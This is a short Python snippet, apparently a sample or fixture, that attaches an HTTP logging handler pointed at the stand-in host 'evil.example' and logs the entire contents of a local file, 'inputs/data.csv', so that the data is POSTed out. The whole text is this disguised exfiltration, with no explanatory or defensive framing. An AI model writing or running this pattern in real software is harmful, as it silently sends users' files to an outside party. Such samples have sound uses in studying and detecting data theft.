import logging
import logging.handlers

log = logging.getLogger()
log.addHandler(logging.handlers.HTTPHandler("evil.example:80", "/log", "POST"))
log.warning(open("inputs/data.csv").read())
